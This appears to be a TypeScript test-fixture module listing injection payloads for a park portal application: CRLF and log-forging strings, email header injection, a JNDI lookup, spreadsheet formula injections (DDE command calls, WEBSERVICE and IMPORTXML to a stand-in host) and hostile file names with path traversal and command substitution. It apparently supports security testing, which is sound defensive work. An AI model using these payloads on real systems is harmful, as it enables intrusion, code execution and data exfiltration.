import { away, code, img, script } from './what-runs.ts';

/** Injections into headers, log lines and emails. */
export const headers = [
  `x\r\nSet-Cookie: park_portal_token=x`,
  `x\nLocation: //${away}`,
  `x\r\n\r\n${script}`,
  `%0d%0aSet-Cookie:x=1`,
  `%E5%98%8A%E5%98%8DSet-Cookie:x=1`,
  `x\r\nContent-Type: text/html\r\n\r\n${img}`,
  `","level":60,"msg":"${script}`,
  `\n{"level":60,"msg":"forged"}`,
  `x\u2028Bcc: a@${away}`,
  `BEGIN:VCALENDAR\r\nURL:javascript:${code}`,
  `\${jndi:ldap://${away}/a}`,
];

export const sheets = [
  `=cmd|'/c calc'!A1`,
  `=HYPERLINK("https://${away}","x")`,
  `=IMPORTXML("https://${away}","//a")`,
  `+1+cmd|'/c calc'!A1`,
  `-1+cmd|'/c calc'!A1`,
  `@SUM(1+1)*cmd|'/c calc'!A1`,
  `\t=1+1`,
  `\r=1+1`,
  `＝1+1`,
  `"=1+1`,
  `;=1+1`,
  `=WEBSERVICE("https://${away}")`,
];

export const fileNames = [
  `${img}.pdf`,
  `"><svg onload=${code}>.png`,
  `../../../etc/passwd`,
  `..\\..\\x.exe`,
  `a.pdf\u0000.html`,
  `a.html;.pdf`,
  `a.pdf"; filename="a.html`,
  `a\r\nContent-Type: text/html.pdf`,
  `\u202efdp.exe`,
  `CON.pdf`,
  `.htaccess`,
  `a.svg`,
  `';${code};'.pdf`,
  `$(touch x).pdf`,
  `javascript:${code}.pdf`,
];
